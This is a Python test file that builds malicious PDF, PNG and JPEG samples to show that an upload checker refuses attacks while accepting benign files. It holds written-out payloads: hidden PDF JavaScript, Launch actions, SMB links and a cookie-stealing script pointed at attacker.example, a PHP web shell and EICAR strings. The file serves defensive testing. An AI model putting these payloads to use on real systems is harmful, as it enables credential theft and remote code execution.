"""A corpus of hostile files, built byte by byte in the run (nothing downloaded, nothing checked in).

Each sample names what a reviewer would worry about; ``MALICIOUS`` must all be refused (by the
file checks, or by the malware scanner for EICAR), ``BENIGN`` must all be accepted, so the
checks are shown to refuse attacks and not simply everything. The EICAR test string is put
together from pieces so that this source file is not itself reported by a virus scanner.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.documents import files

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    name: str
    build: Callable[[], bytes]
    filename: str = "evidence.pdf"


# --- a hand-written PDF (exact bytes, a correct xref) --------------------------------------------


def raw_pdf(objects: dict[int, bytes], *, root: int = 1, trailer: bytes = b"", before: dict[int, bytes] | None = None,
            tail: bytes = b"", orphans: bytes = b"") -> bytes:
    """A PDF from numbered object bodies; ``before`` puts raw bytes ahead of an object, ``orphans`` after the last."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        out += (before or {}).get(number, b"")
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    out += orphans
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R " % (size, root) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out) + tail


def _pages(catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
    }


def _link(action: bytes) -> dict[int, bytes]:
    """A page with one link annotation whose action is ``action``."""
    return {**_pages(page_extra=b"/Annots [4 0 R]"),
            4: b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /A " + action + b" >>"}


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


# --- JavaScript, wherever it can hide --------------------------------------------------------------


def js_open_action() -> bytes:
    return files.pdf_with_javascript()


def js_in_names_tree() -> bytes:
    """Document-level JavaScript in the catalog's ``/Names /JavaScript`` name tree (run on opening)."""
    return raw_pdf({**_pages(catalog_extra=b"/Names << /JavaScript 4 0 R >>"),
                    4: b"<< /Names [(init) 5 0 R] >>",
                    5: b"<< /S /JavaScript /JS (app.launchURL\\('https://attacker.example/'\\)) >>"})


def js_in_page_additional_actions() -> bytes:
    return raw_pdf({**_pages(page_extra=b"/AA << /O 4 0 R >>"), 4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})


def js_behind_an_annotation() -> bytes:
    return files.pdf_with_annotation_javascript()


def js_hex_escaped_names() -> bytes:
    return raw_pdf(_pages(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"))


def js_hidden_by_a_60000_element_trailer_array() -> bytes:
    """The review's file: a huge trailer array exhausts the walk before ``/Root``; strings spelling ``stream``
    and ``endstream`` make the raw scan blank the catalog as if it were stream data."""
    objects = {
        1: b"<< /Producer (a stream\n) >>",
        **{k + 1: v for k, v in _pages(catalog_extra=b"/OpenAction 5 0 R").items()},
        5: b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        6: b"<< /Subject (endstream) >>",
    }
    objects[2] = objects[2].replace(b"/Pages 2 0 R", b"/Pages 3 0 R")
    objects[3] = objects[3].replace(b"[3 0 R]", b"[4 0 R]")
    objects[4] = objects[4].replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    padding = b"[" + b"0 " * 60_000 + b"]"
    return raw_pdf(objects, root=2, trailer=b"/Info 1 0 R /Pad " + padding)


def js_in_strings_spelling_stream() -> bytes:
    """An object no reference reaches (a viewer rebuilding a damaged file still finds it), between strings
    that spell ``stream``/``endstream``."""
    return raw_pdf({**_pages(), 4: b"<< /Title (stream\n) >>", 5: b"<< /Subject (endstream) >>"},
                   before={5: b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"})


def js_in_an_incremental_update() -> bytes:
    """A second revision adds ``/OpenAction`` to the catalog; the first revision is clean."""
    first = raw_pdf(_pages())
    start = len(first)
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
    action = b"4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    update = catalog + action
    xref = start + len(update)
    prev = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    table = (b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n4 1\n%010d 00000 n \n" % (start, start + len(catalog)))
    return first + update + table + (b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
                                     % (prev, xref))


def js_in_a_form_field() -> bytes:
    return raw_pdf({**_pages(catalog_extra=b"/AcroForm << /Fields [4 0 R] >>", page_extra=b"/Annots [4 0 R]"),
                    4: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 200 40] "
                       b"/AA << /K << /S /JavaScript /JS (this.submitForm\\(\\)) >> >> >>"})


def js_in_a_compressed_object_stream() -> bytes:
    """The action lives in an object stream (Flate): its names never appear in the raw bytes."""
    inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    body = zlib.compress(header + inner)
    objects = {**_pages(catalog_extra=b"/OpenAction 4 0 R"),
               5: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(body))
                  + body + b"\nendstream"}
    data = raw_pdf(objects)
    # xref entry 4 must say "in object stream 5, index 0": use a cross-reference stream instead of a table.
    return _with_xref_stream(data, objects, compressed={4: (5, 0)})


def _with_xref_stream(data: bytes, objects: dict[int, bytes], *, compressed: dict[int, tuple[int, int]]) -> bytes:
    body = data[:data.index(b"xref\n")]
    offsets = {}
    for number in objects:
        offsets[number] = body.index(b"\n%d 0 obj\n" % number) + 1 if number != 1 else body.index(b"1 0 obj\n")
    size = max([*objects, *compressed]) + 2
    xref_number = size - 1
    rows = []
    for number in range(size):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in compressed:
            stream_number, index = compressed[number]
            rows.append(struct.pack(">BIH", 2, stream_number, index))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, len(body), 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
    table = b"".join(rows)
    xref_obj = (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
                % (xref_number, size, len(table)) + table + b"\nendstream\nendobj\n")
    return body + xref_obj + b"startxref\n%d\n%%%%EOF\n" % len(body)


# --- other actions ---------------------------------------------------------------------------------


def launch_on_open() -> bytes:
    return raw_pdf(_pages(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) "
                                        b"/P (/c calc) >> >>"))


def launch_from_a_link() -> bytes:
    return raw_pdf(_link(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"))


def submit_form() -> bytes:
    return raw_pdf(_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>"))


def import_data() -> bytes:
    return raw_pdf(_link(b"<< /S /ImportData /F (data.fdf) >>"))


def uri_with_javascript_scheme() -> bytes:
    return raw_pdf(_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"))


def uri_to_a_local_file() -> bytes:
    return raw_pdf(_link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"))


def uri_to_a_windows_share() -> bytes:
    """An SMB link: opening it sends the user's NTLM hash to the attacker's host."""
    return raw_pdf(_link(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >>"))


def go_to_remote_file() -> bytes:
    return raw_pdf(_link(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"))


def go_to_embedded() -> bytes:
    return raw_pdf(_link(b"<< /S /GoToE /T << /R /C /N (payload) >> /D [0 /Fit] >>"))


def named_action_beyond_navigation() -> bytes:
    return raw_pdf(_pages(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"))


def rendition_on_a_screen() -> bytes:
    return raw_pdf({**_pages(page_extra=b"/Annots [4 0 R]"),
                    4: b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 >> >>"})


# --- embedded content ------------------------------------------------------------------------------


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("notes.txt", b"see the attached spreadsheet")
    return _written(writer)


def file_attachment_annotation() -> bytes:
    return raw_pdf({**_pages(page_extra=b"/Annots [4 0 R]"),
                    4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
                    5: b"<< /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>",
                    6: b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"})


def xfa_form() -> bytes:
    return raw_pdf({**_pages(catalog_extra=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
                    4: b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream"})


def rich_media() -> bytes:
    return raw_pdf({**_pages(page_extra=b"/Annots [4 0 R]"),
                    4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"})


# --- files that cannot be inspected: refused, not waved through ----------------------------------


def encrypted_aes() -> bytes:
    return files.pdf_encrypted()


def encrypted_with_an_empty_password() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def truncated() -> bytes:
    """A clean PDF cut short: what is missing cannot be inspected."""
    data = files.pdf(pages=3)
    return data[: len(data) * 2 // 3]


def unparseable() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40


def deeply_nested_arrays() -> bytes:
    return raw_pdf(_pages(catalog_extra=b"/X " + b"[" * 20_000 + b"]" * 20_000))


def unterminated_string_swallowing_the_catalog() -> bytes:
    """A stray ``(`` between objects: a lexer that trusts it reads the rest of the file as one string."""
    return raw_pdf({**_pages(catalog_extra=b"/OpenAction 4 0 R"), 4: b"<< /S /JavaScript /JS (x) >>"},
                   before={1: b"(\n"})


def beyond_the_parsers_limits() -> bytes:
    """More array items than pypdf will read: what it would not read, it cannot vouch for."""
    return raw_pdf(_pages(catalog_extra=b"/OpenAction 4 0 R"), trailer=b"/Pad [" + b"(a) /N << /K 1 >> " * 300_000
                   + b"]")


# --- polyglots and trailing payloads ---------------------------------------------------------------


def pdf_with_a_script_after_its_end() -> bytes:
    return files.pdf() + b"<html><script>fetch('https://attacker.example/'+document.cookie)</script></html>\n"


def pdf_that_is_also_a_zip() -> bytes:
    return files.pdf() + files.zip_archive()


def pdf_carrying_a_windows_executable() -> bytes:
    return files.pdf_with_pe()


def png_that_is_also_a_zip() -> bytes:
    return files.png_zip_polyglot()


def png_with_a_trailing_payload() -> bytes:
    return files.png() + b"<?php system($_GET['c']); ?>"


def jpeg_with_a_trailing_payload() -> bytes:
    return files.jpeg() + b"<script>alert(1)</script>"


# --- malware (found by the scanner, not by the checks) --------------------------------------------


def eicar_in_pdf_metadata() -> bytes:
    return files.pdf(subject=EICAR.decode())


def eicar_in_a_compressed_pdf_stream() -> bytes:
    content = zlib.compress(b"% " + EICAR + b"\nBT /F1 12 Tf 72 700 Td (passport) Tj ET")
    return raw_pdf({**_pages(page_extra=b"/Contents 4 0 R"),
                    4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"})


def eicar_in_a_png_text_chunk() -> bytes:
    data = files.png()
    chunk = files._png_chunk(b"tEXt", b"Comment\x00" + EICAR)
    return data[:-12] + chunk + data[-12:]


def eicar_as_a_text_file_named_pdf() -> bytes:
    return EICAR


# --- wrong name, wrong type ------------------------------------------------------------------------


def elf_named_pdf() -> bytes:
    return files.elf()


def html_named_pdf() -> bytes:
    return b"<!doctype html><html><body onload=alert(1)>passport</body></html>"


def svg_with_script_named_png() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


MALICIOUS: tuple[Sample, ...] = tuple(
    Sample(build.__name__, build, filename) for build, filename in [
        (js_open_action, "a.pdf"), (js_in_names_tree, "a.pdf"), (js_in_page_additional_actions, "a.pdf"),
        (js_behind_an_annotation, "a.pdf"), (js_hex_escaped_names, "a.pdf"),
        (js_hidden_by_a_60000_element_trailer_array, "a.pdf"), (js_in_strings_spelling_stream, "a.pdf"),
        (js_in_an_incremental_update, "a.pdf"), (js_in_a_form_field, "a.pdf"),
        (js_in_a_compressed_object_stream, "a.pdf"),
        (launch_on_open, "a.pdf"), (launch_from_a_link, "a.pdf"), (submit_form, "a.pdf"), (import_data, "a.pdf"),
        (uri_with_javascript_scheme, "a.pdf"), (uri_to_a_local_file, "a.pdf"), (uri_to_a_windows_share, "a.pdf"),
        (go_to_remote_file, "a.pdf"), (go_to_embedded, "a.pdf"), (named_action_beyond_navigation, "a.pdf"),
        (rendition_on_a_screen, "a.pdf"),
        (embedded_file, "a.pdf"), (file_attachment_annotation, "a.pdf"), (xfa_form, "a.pdf"), (rich_media, "a.pdf"),
        (encrypted_aes, "a.pdf"), (encrypted_with_an_empty_password, "a.pdf"), (truncated, "a.pdf"),
        (unparseable, "a.pdf"), (deeply_nested_arrays, "a.pdf"), (unterminated_string_swallowing_the_catalog, "a.pdf"),
        (beyond_the_parsers_limits, "a.pdf"),
        (pdf_with_a_script_after_its_end, "a.pdf"), (pdf_that_is_also_a_zip, "a.pdf"),
        (pdf_carrying_a_windows_executable, "a.pdf"), (png_that_is_also_a_zip, "a.png"),
        (png_with_a_trailing_payload, "a.png"), (jpeg_with_a_trailing_payload, "a.jpg"),
        (eicar_in_pdf_metadata, "a.pdf"), (eicar_in_a_compressed_pdf_stream, "a.pdf"),
        (eicar_in_a_png_text_chunk, "a.png"), (eicar_as_a_text_file_named_pdf, "a.pdf"),
        (elf_named_pdf, "passport.pdf"), (html_named_pdf, "passport.pdf"), (svg_with_script_named_png, "passport.png"),
    ]
)


# --- what real evidence looks like: accepted ------------------------------------------------------


def pdf_opening_at_the_first_page() -> bytes:
    """``/OpenAction [page /Fit]``: a destination, as LibreOffice and many scanners write."""
    return raw_pdf(_pages(catalog_extra=b"/OpenAction [3 0 R /Fit]"))


def pdf_with_a_web_link() -> bytes:
    return raw_pdf(_link(b"<< /S /URI /URI (https://www.example-utility.co.uk/help) >>"))


def pdf_with_a_fillable_field() -> bytes:
    writer = _writer()
    field = DictionaryObject({NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("name"),
                              NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
                              NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), NumberObject(200),
                                                                NumberObject(40)])})
    reference = writer._add_object(field)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([reference])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([reference])})
    return _written(writer)


def pdf_with_binary_image_bytes_spelling_names() -> bytes:
    image = b"\x00\x01/JS\x00/AA /OpenAction /Launch (\xff" * 100
    return raw_pdf({**_pages(page_extra=b"/Resources << /XObject << /Im1 4 0 R >> >>"),
                    4: b"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 "
                       b"/ColorSpace /DeviceGray /Length %d >>\nstream\n" % len(image) + image + b"\nendstream"})


BENIGN: tuple[Sample, ...] = (
    Sample("plain_pdf", files.pdf), Sample("pdf_of_three_pages", lambda: files.pdf(pages=3)),
    Sample("pdf_opening_at_the_first_page", pdf_opening_at_the_first_page),
    Sample("pdf_with_a_web_link", pdf_with_a_web_link),
    Sample("pdf_with_a_fillable_field", pdf_with_a_fillable_field),
    Sample("pdf_with_binary_image_bytes_spelling_names", pdf_with_binary_image_bytes_spelling_names),
    Sample("png", files.png, "a.png"), Sample("jpeg", files.jpeg, "a.jpg"), Sample("tiff", files.tiff, "a.tif"),
)
